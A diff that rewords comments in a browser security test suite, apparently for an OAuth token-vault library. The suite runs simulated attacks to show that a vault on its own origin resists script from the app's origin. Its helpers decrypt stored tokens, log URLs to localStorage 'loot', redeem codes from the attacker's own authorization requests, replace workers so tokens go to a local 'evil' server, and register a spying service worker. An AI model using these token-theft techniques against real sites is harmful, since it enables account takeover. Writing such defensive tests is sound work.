@@ -1,6 +1,6 @@
-// What script in the app's origin can do to a vault of the same origin, and cannot do to one on an origin of its own.
-// Each attack is run against both. The app's pages have no policies here, and its site gives out service workers: an
-// attacker could not wish for more.
+// Attacks that script in the app's origin can make on a vault of the same origin, but not on one with its own origin.
+// Each attack is run against both. The app's pages have no policies here, and its site serves service workers: the best
+// conditions for an attacker.
 import assert from 'node:assert/strict'
 import { createHash, randomBytes } from 'node:crypto'
 import { after, afterEach, before, test } from 'node:test'
@@ -11,13 +11,13 @@ import { VAULT_HOSTS } from '../support/vault_origin.mjs'
 
 const time = { timeout: 60_000 }
 
-/** The attacker's own server: what it was sent. */
+/** The attacker's own server, and the data it received. */
 let evil
 /** The same app, with its vault in its own origin and behind a frame. */
 let plain
 let framed
 
-// The provider is of the app's site, so that it knows the user in frames, too.
+// The provider belongs to the app's site, so it knows the user in frames too.
 const provider = { host: `id.${VAULT_HOSTS.app.split('.').slice(1).join('.')}`, accessTokenSeconds: 60 }
 const config = { scope: 'openid profile orders' }
 
@@ -36,7 +36,7 @@ afterEach(() => {
   evil.heard.length = 0
 })
 
-/** Takes whatever a browser brings, from wherever. */
+/** Records everything that a browser sends, from any origin. */
 async function startEvil() {
   const heard = []
   const server = await listen({
@@ -55,7 +55,7 @@ async function startEvil() {
 
 const bearer = (app) => `Bearer ${app.ledger.newest('access_token').value}`
 
-/** Opens the app in a browser session of its own, where `script` runs before the page's own in the app's origin. */
+/** Opens the app in a new browser context, where `script` runs before the page's own script in the app's origin. */
 async function openWith(app, script = () => {}, argument) {
   const context = await app.browser.newContext()
   const source = `if (location.origin === ${JSON.stringify(app.site.origin)}) (${script})(${JSON.stringify(argument) ?? ''})`
@@ -78,7 +78,7 @@ test('reading storage: a sealed session is decrypted with the stored key', time,
   assert.deepEqual(await found(framed), { databases: false, token: false })
 })
 
-/** Runs in the page: what its script gets of the document in the frame of this address. */
+/** Runs in the page: everything that its script can read of the frame with this URL. */
 function reachIntoFrame(address) {
   const attempt = (action) => {
     try {
@@ -106,7 +106,7 @@ test('reading storage: the app’s script cannot read the vault’s origin', tim
     cookies: refused,
     script: refused,
   })
-  // A frame of the app's own origin opens to the very same script.
+  // A frame of the app's own origin is open to the same script.
   await page.evaluate(() => {
     const own = document.createElement('iframe')
     own.src = '/empty.html'
@@ -121,7 +121,7 @@ test('reading storage: the app’s script cannot read the vault’s origin', tim
   })
 })
 
-/** Runs in the page: all that the origin's databases have, opened with every key that lies there. */
+/** Runs in the page: the content of the origin's databases, decrypted with every stored key. */
 async function readStorage() {
   const done = (request) => new Promise((resolve) => (request.onsuccess = () => resolve(request.result)))
   const texts = []
@@ -142,7 +142,7 @@ async function readStorage() {
   return texts
 }
 
-/** An authorization request of the attacker's own. The verifier is the attacker's. */
+/** An authorization request of the attacker, with the attacker's verifier. */
 function ownRequest(app, redirectUri, prompt) {
   const verifier = randomBytes(32).toString('base64url')
   const state = randomBytes(24).toString('base64url')
@@ -163,7 +163,7 @@ function ownRequest(app, redirectUri, prompt) {
 
 const silentRequest = (app, redirectUri) => ownRequest(app, redirectUri, 'none')
 
-/** What the attacker's server makes of a code. */
+/** The result of a code exchange at the attacker's server. */
 async function redeem(app, code, { verifier, redirectUri }) {
   const response = await fetch(`http://127.0.0.1:${app.provider.port}/token`, {
     method: 'POST',
@@ -178,7 +178,7 @@ async function redeem(app, code, { verifier, redirectUri }) {
   return (await response.json()).access_token
 }
 
-/** Runs in the page: asks in a frame whose own script cannot run, and reads where it ends. */
+/** Runs in the page: sends the request in a frame whose own script cannot run, and reads the final URL. */
 function askInFrame(url) {
   const frame = document.createElement('iframe')
   frame.setAttribute('sandbox', 'allow-same-origin')
@@ -238,8 +238,8 @@ test('a silent login of its own: the provider knows no redirect URI of the app�
 })
 
 /**
- * Runs in the page: every address of the popup that can be read, until it is the app's own again, or the popup has
- * closed or is cut off.
+ * Runs in the page: every URL of the popup that can be read, until the popup is at the app again, has closed, or is cut
+ * off.
  */
 function askInPopup(url) {
   const popup = window.open(url, '_blank', 'popup')
@@ -248,7 +248,7 @@ function askInPopup(url) {
     try {
       return popup.location.href
     } catch {
-      // Another origin's.
+      // The popup is at another origin.
       return ''
     }
   }
@@ -277,7 +277,7 @@ test(
     await popup.waitForURL(`${framed.site.origin}/callback**`)
     const { value: code } = framed.ledger.newest('authorization_code')
     assert.ok(!answer.join().includes(code), answer.join('\n'))
-    // The vault is told of that answer, too, and has begun no such login.
+    // The vault receives that response too, and has started no such login.
     const { error } = await page.evaluate(
       (state) => settle(auth.handleCallback(`/callback#strongroom=${state}`)),
       request.state,
@@ -293,7 +293,7 @@ test(
   async () => {
     const page = await openWith(plain)
     await signIn(page)
-    // The app's page would take the code away at once: it does not start.
+    // The app's page would remove the code immediately, so it does not start.
     const release = plain.site.override('/page.js', { body: '' })
     try {
       const request = silentRequest(plain, `${plain.site.origin}/callback`)
@@ -305,7 +305,7 @@ test(
   },
 )
 
-/** Runs in each page of the app, before its own script: addresses, and what comes over the package's channels. */
+/** Runs in each page of the app before its own script: records URLs and messages on the package's channels. */
 function eavesdrop() {
   localStorage.loot = `${localStorage.loot ?? ''}${location.href}\n`
   globalThis.overheard = []
@@ -314,7 +314,7 @@ function eavesdrop() {
   }
 }
 
-/** The attacker's own login, to which the user signs in: what its script can read of the answer. */
+/** The attacker's own login, at which the user signs in: everything that its script can read of the response. */
 async function ownLogin(app, redirectUri) {
   const page = await openWith(app, eavesdrop)
   await booted(page)
@@ -332,7 +332,7 @@ test(
   'a login of its own, to which the user signs in: with the app’s redirect URI the code is read, and redeemed',
   time,
   async () => {
-    // The app's page would take the code away at once: it does not start there.
+    // The app's page would remove the code immediately, so it does not start.
     const release = plain.site.override('/callback', { body: '' })
     try {
       const { request, addresses } = await ownLogin(plain, `${plain.site.origin}/callback`)
@@ -349,14 +349,14 @@ test(
   async () => {
     const { request, texts } = await ownLogin(framed, `${framed.vault.origin}/callback`)
     const { value: code } = framed.ledger.newest('authorization_code')
-    assert.ok(texts.includes(request.state), 'it sees something at all')
+    assert.ok(texts.includes(request.state), 'the script does observe something')
     assert.ok(!texts.includes(code), texts)
-    // Nothing else is between it and a token.
+    // Nothing else separates it from a token.
     assert.ok(await redeem(framed, code, request))
   },
 )
 
-/** Runs before the page's own script: every worker becomes another one. */
+/** Runs before the page's own script: replaces every worker. */
 function replaceWorkers(url) {
   const { SharedWorker: Genuine } = window
   window.SharedWorker = function (_, options) {
@@ -364,7 +364,7 @@ function replaceWorkers(url) {
   }
 }
 
-/** A worker's file that runs a vault as the app's own, which lets the attacker's server have tokens. */
+/** A worker file with a vault like the app's own, but with a rule that sends tokens to the attacker's server. */
 const evilWorker = (app, redirectUri) => `
 import { vault } from '/strongroom/worker.js'
 vault(${JSON.stringify({ ...app.config, redirectUri, apis: [{ url: `${evil.origin}/` }] })})`
@@ -406,7 +406,7 @@ test('replacing the worker: the app’s origin cannot use the vault’s redirect
     const { error } = await page.evaluate(start)
     assert.equal(error.code, 'config_invalid')
     assert.match(error.message, /redirectUri/)
-    // The worker as such would start: what it lacks is a redirect URI.
+    // The worker itself would start, but it has no redirect URI.
     framed.site.files['/evil.worker.js'] = evilWorker(framed, '/callback')
     assert.deepEqual(await page.evaluate(start), { value: 0 })
   } finally {
@@ -430,7 +430,7 @@ test('constructing the worker’s URL: only script of its origin gets a port', t
   assert.equal(await construct(framed, `${framed.vault.origin}/auth.worker.js`), 'SecurityError')
 })
 
-/** Registers the spy, signs in and calls: resolves with what the spy saw. */
+/** Registers the spy, signs in and calls. Resolves with the spy's observations. */
 async function spy(app) {
   serveSpy(app)
   const page = await openWith(app)
@@ -439,7 +439,7 @@ async function spy(app) {
     await navigator.serviceWorker.register('/spy.js')
     await controlled
   })
-  // A worker that starts from now on is in its hands, if it can be.
+  // Workers that start from now on are under its control, if possible.
   const fresh = await app.open('/', page.context())
   await page.close()
   await signIn(fresh)
@@ -462,7 +462,7 @@ test('a service worker of the app’s origin sees no request of the vault', time
 
 test('a service worker of the vault’s own origin would see the token', time, async () => {
   const worker = plain.site.files['/auth.worker.js']
-  // Another worker than that of a session that is still there.
+  // Another worker than that of the live session.
   plain.setWorker(`${worker}\n// for the spy`)
   const seen = await spy(plain)
   assert.ok(
@@ -471,7 +471,10 @@ test('a service worker of the vault’s own origin would see the token', time, a
   )
 })
 
-/** Runs before the page's own script: notes what passes through what that may use, where any page of the app finds it. */
+/**
+ * Runs before the page's own script: records data passing through the APIs that the script may use, readable by any
+ * page of the app.
+ */
 function tap() {
   const keep = (text) => (localStorage.loot = (localStorage.loot ?? '') + text + '\n')
   const note = (value, depth = 0) => {
@@ -532,7 +535,7 @@ for (const [mode, begin] of [
         const { value: token } = app.ledger.newest('access_token')
         const { codeVerifier } = app.ledger.tokenRequests().at(-1)
         const secrets = { code, token, codeVerifier }
-        // It sees something at all.
+        // The script does observe something.
         assert.ok(texts.includes('"t":"fetch"'))
         return Object.keys(secrets).filter((name) => texts.includes(secrets[name]))
       }
